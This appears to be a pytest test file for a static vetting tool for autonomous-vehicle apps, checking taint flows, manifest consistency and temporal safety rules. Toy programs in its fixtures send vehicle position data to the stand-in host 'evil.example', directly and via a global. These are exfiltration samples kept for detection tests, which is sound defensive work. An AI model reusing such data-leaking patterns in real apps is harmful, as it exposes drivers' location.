from __future__ import annotations

import pytest
from oracles import taint_by_paths, temporal_by_execution

from avguard.ir.syntax import parse_program
from avguard.manifest import parse_manifest
from avguard.pipeline.corpus import LABELS, corpus_names
from avguard.static.taint import taint_analysis
from avguard.static.temporal import RuleError, builtin_rules, check_temporal_rule, parse_rule
from avguard.static.usage import check_manifest_consistency, collect_resource_usage
from avguard.static.vetting import run_static_vetting

RULES = {r.rule_id: r for r in builtin_rules()}

LEAK = """app leak
handler vehicle_report:
block entry:
    x = field position.x
    netsend "evil.example" x
    halt
"""

VIA_GLOBAL = """app stash
global last = 0
handler vehicle_report:
block entry:
    x = field position.y
    setglobal last x
    halt
handler traffic_signal:
block entry:
    v = global last
    w = mul v 2
    netsend "evil.example" w
    halt
"""

CLEAN_SEND = """app telemetry
handler vehicle_report:
block entry:
    s = field speed
    k = const 3
    netsend "fleet.example" s k
    halt
"""

LOOP_CARRY = """app loop
handler vehicle_report:
block entry:
    a = const 0
    x = field position.heading
    i = const 0
    jump head
block head:
    go = lt i 3
    branch go body out
block body:
    a = add a x
    i = add i 1
    jump head
block out:
    store "trace" a
    halt
"""


def _flows(text):
    return {(f.source, f.sink) for f in taint_analysis(parse_program(text))}


def test_direct_leak_one_flow():
    flows = taint_analysis(parse_program(LEAK))
    assert len(flows) == 1
    f = flows[0]
    assert (f.source, f.sink, f.host) == ("vehicle_report.position.x", "net_send(evil.example)", "evil.example")
    assert f.witness_path and f.witness_path[-1] == "vehicle_report/entry"


def test_flow_through_global_across_handlers():
    flows = taint_analysis(parse_program(VIA_GLOBAL))
    assert {(f.source, f.sink) for f in flows} == {("vehicle_report.position.y", "net_send(evil.example)")}
    (f,) = flows
    assert f.witness_path[0] == "vehicle_report/entry"
    assert f.witness_path[-1] == "traffic_signal/entry"


def test_non_location_send_is_clean():
    assert _flows(CLEAN_SEND) == set()


def test_loop_carried_taint_reaches_storage():
    assert _flows(LOOP_CARRY) == {("vehicle_report.position.heading", "storage(trace)")}


def test_const_overwrite_untaints():
    text = LEAK.replace("    netsend", "    x = const 1\n    netsend")
    assert _flows(text) == set()


@pytest.mark.parametrize("text", [LEAK, VIA_GLOBAL, CLEAN_SEND, LOOP_CARRY])
def test_taint_matches_path_enumeration_on_samples(text):
    p = parse_program(text)
    assert {(f.source, f.sink, f.location) for f in taint_analysis(p)} == taint_by_paths(p)


@pytest.mark.parametrize("name", corpus_names())
def test_taint_matches_path_enumeration_on_corpus(corpus, name):
    p = corpus(name).program
    assert {(f.source, f.sink, f.location) for f in taint_analysis(p)} == taint_by_paths(p)


def test_resource_usage_of_empty_program():
    p = parse_program("app none\n")
    u = collect_resource_usage(p)
    assert not (u.subscribed or u.published or u.net_hosts or u.storage_keys or u.reads_location)


def test_resource_usage_sets(corpus):
    u = collect_resource_usage(corpus("privacy_leak").program)
    assert u.subscribed == {"vehicle_report"}
    assert u.net_hosts == {"tracker.example"}
    assert u.reads_location


def test_infotainment_steering_undeclared_control(corpus):
    pkg = corpus("infotainment_steering")
    findings = check_manifest_consistency(pkg.program, pkg.manifest)
    rejects = [(f.rule, f.path) for f in findings if f.severity == "reject"]
    assert rejects == [("undeclared_control", "publish:steering_cmd")]


def test_declared_but_unused_warns():
    m = parse_manifest("""<avapp id="leak" category="driving">
  <purpose>p</purpose>
  <circumstances><tag>any</tag></circumstances>
  <resource name="vehicle_report" direction="subscribe"><purpose>p</purpose></resource>
  <resource name="network" direction="control"><purpose>p</purpose></resource>
  <resource name="brake" direction="control"><purpose>p</purpose></resource>
</avapp>""")
    findings = check_manifest_consistency(parse_program(LEAK), m)
    assert [(f.severity, f.rule) for f in findings] == [("warn", "unused_resource")]


PARK_OK = """app parker
handler vehicle_report:
block entry:
    p = const park
    publish gear_cmd gear=p
    off = const false
    publish engine_cmd on=off
    halt
"""

PARK_AFTER_DRIVE = """app parker
handler vehicle_report:
block entry:
    p = const park
    publish gear_cmd gear=p
    d = const drive
    publish gear_cmd gear=d
    off = const false
    publish engine_cmd on=off
    halt
"""

# parks in one invocation, cuts the engine in a later one
PARK_TWO_STEPS = """app parker
global parked = false
handler vehicle_report:
block entry:
    done = global parked
    branch done kill park
block park:
    p = const park
    publish gear_cmd gear=p
    t = const true
    setglobal parked t
    halt
block kill:
    off = const false
    publish engine_cmd on=off
    halt
"""

# the engine-off branch is dead: the guard is a constant
DEAD_BRANCH = """app guarded
global ENABLED = false
handler vehicle_report:
block entry:
    e = global ENABLED
    branch e kill done
block kill:
    off = const false
    publish engine_cmd on=off
    halt
block done:
    halt
"""

UNKNOWN_GEAR = """app shifter
handler vehicle_report:
block entry:
    g = field gear
    publish gear_cmd gear=g
    off = const false
    publish engine_cmd on=off
    halt
"""


@pytest.mark.parametrize(
    "text, violates",
    [(PARK_OK, False), (PARK_AFTER_DRIVE, True), (DEAD_BRANCH, False), (UNKNOWN_GEAR, True)],
)
def test_park_rule_samples(text, violates):
    p = parse_program(text)
    rule = RULES["park_before_engine_off"]
    found = check_temporal_rule(p, rule)
    assert bool(found) == violates
    oracle = temporal_by_execution(p, rule)
    assert (oracle is not None) == violates
    if violates:
        assert list(found[0].witness) == list(oracle)


def test_written_global_guard_is_over_approximated():
    # a guard held in a mutable global is unknown to the checker, so the
    # engine-off branch counts as reachable from the start; running the app
    # shows it is not.  Sound, but a false alarm.
    p = parse_program(PARK_TWO_STEPS)
    rule = RULES["park_before_engine_off"]
    assert check_temporal_rule(p, rule)
    assert temporal_by_execution(p, rule) is None


def test_park_violator_witness(corpus):
    found = check_temporal_rule(corpus("park_rule_violator").program, RULES["park_before_engine_off"])
    assert len(found) == 1
    assert found[0].severity == "reject"
    assert found[0].witness == ("publish:engine_cmd.on=false",)


def test_red_light_witness(corpus):
    (f,) = check_temporal_rule(corpus("red_light_violator").program, RULES["red_light"])
    assert f.witness == ("observe:traffic_signal.state=red", "publish:throttle_cmd.percent>0")


@pytest.mark.parametrize("name", corpus_names())
@pytest.mark.parametrize("rule_id", sorted(RULES))
def test_temporal_matches_execution_oracle_on_corpus(corpus, name, rule_id):
    p = corpus(name).program
    found = check_temporal_rule(p, RULES[rule_id])
    oracle = temporal_by_execution(p, RULES[rule_id])
    assert bool(found) == (oracle is not None)
    if found:
        assert list(found[0].witness) == list(oracle)


def test_rule_parse_errors():
    with pytest.raises(RuleError):
        parse_rule("rule r\nstate a\nstart a\non a publish:radar_cmd -> a\n")
    with pytest.raises(RuleError):
        parse_rule("rule r\nstate a\nstart b\n")


@pytest.mark.parametrize("name", corpus_names())
def test_corpus_static_verdicts(corpus, name):
    report = run_static_vetting(corpus(name))
    expected = "reject" if LABELS[name] == "rejected_static" else "pass"
    assert report.verdict == expected, report.render()


def test_static_report_is_deterministic(corpus):
    pkg = corpus("privacy_leak")
    a, b = run_static_vetting(pkg), run_static_vetting(pkg)
    assert a.render() == b.render()
    assert "privacy_leak" in a.rules()
